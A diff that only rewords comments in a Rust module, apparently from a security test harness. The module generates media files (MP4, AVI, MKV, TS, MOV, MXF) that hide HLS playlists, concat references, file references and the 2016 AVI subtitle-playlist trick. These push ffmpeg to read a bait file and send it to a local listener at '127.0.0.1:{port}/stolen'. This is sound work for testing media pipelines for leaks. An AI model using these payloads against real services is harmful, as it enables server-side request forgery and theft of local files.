@@ -1,14 +1,14 @@
-//! Playlists, concatenations and references dressed up as media: they would make a reader fetch what the sender cannot.
+//! Playlists, concatenations and references disguised as media. They try to make a reader fetch what the sender cannot.
 
 use super::boxes::{self, Tables, boxed, full, movie, words};
 use super::{Bait, Case};
 
-/// Every disguise.
+/// Every disguised file.
 #[must_use]
 pub fn all(bait: &Bait) -> Vec<Case> {
     let mut cases = Vec::new();
     for (name, text) in texts(bait) {
-        // The same text under every name that a reader might believe.
+        // The same text under every extension that a reader might trust.
         for extension in ["mp4", "avi", "mkv", "ts", "mov", "mxf"] {
             cases.push(Case::new(
                 format!("{name} as {extension}"),
@@ -23,7 +23,7 @@ pub fn all(bait: &Bait) -> Vec<Case> {
     cases
 }
 
-/// What the demuxers of ffmpeg that open other files read.
+/// Input of the ffmpeg demuxers that open other files.
 fn texts(bait: &Bait) -> Vec<(String, String)> {
     let (file, port) = (bait.path(), bait.port);
     let http = format!("http://127.0.0.1:{port}/stolen");
@@ -102,7 +102,7 @@ fn texts(bait: &Bait) -> Vec<(String, String)> {
     texts
 }
 
-/// A text behind the first bytes of each container, so that sniffing lets it pass and the demuxer meets it.
+/// A text behind the first bytes of each container, so that it passes the container detection and reaches the demuxer.
 fn wrapped(name: &str, text: &str) -> Vec<Case> {
     let text = text.as_bytes();
     let mov = [boxes::ftyp(), boxed(b"mdat", text), text.to_vec()].concat();
@@ -111,10 +111,10 @@ fn wrapped(name: &str, text: &str) -> Vec<Case> {
         0x06, 0x0E, 0x2B, 0x34, 0x02, 0x05, 0x01, 0x01, 0x0D, 0x01, 0x02, 0x01,
     ];
     key.extend([0x01, 0x02, 0x04, 0x00, 0x83, 0x00, 0x00, 0x00]);
-    // MXF allows a run-in before the first key: here it is a playlist.
+    // MXF allows a run-in before the first key. Here it is a playlist.
     let mxf = [text, &key].concat();
     let ps = [&[0, 0, 1, 0xBA][..], text].concat();
-    // A sync byte is a G: every 188th character of a text can be one.
+    // The sync byte of a transport stream is "G", so every 188th character of a text can be one.
     let mut ts: Vec<u8> = text.iter().copied().cycle().take(188 * 16).collect();
     ts.iter_mut().step_by(188).for_each(|b| *b = b'G');
     [
@@ -130,7 +130,7 @@ fn wrapped(name: &str, text: &str) -> Vec<Case> {
     .to_vec()
 }
 
-/// Media that is said to be in another file (ISO/IEC 14496-12, 8.7.2, and QuickTime's aliases).
+/// Media that refers to another file (ISO/IEC 14496-12, 8.7.2, and QuickTime's aliases).
 fn references(bait: &Bait) -> Vec<Case> {
     let file = bait.path();
     let http = format!("http://127.0.0.1:{}/stolen", bait.port);
@@ -157,7 +157,7 @@ fn references(bait: &Bait) -> Vec<Case> {
     entries.map(case).to_vec()
 }
 
-/// An `alis` record as ffmpeg reads it: volume, file name, then typed strings with the whole path.
+/// An `alis` record as ffmpeg reads it: volume, file name, then typed strings with the complete path.
 fn alias(path: &str) -> Vec<u8> {
     let name = path.rsplit('/').next().unwrap_or_default();
     let mut record = vec![0; 6];
@@ -186,7 +186,7 @@ fn alias(path: &str) -> Vec<u8> {
     full(b"alis", 0, &record)
 }
 
-/// The trick of 2016: a playlist in a subtitle chunk of an AVI, which a probing demuxer opened by itself.
+/// The attack of 2016: a playlist in a subtitle chunk of an AVI, which a probing demuxer opened.
 fn gab2(bait: &Bait) -> Vec<u8> {
     let playlist = format!(
         "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://127.0.0.1:{}/|file://{}\n#EXT-X-ENDLIST\n",
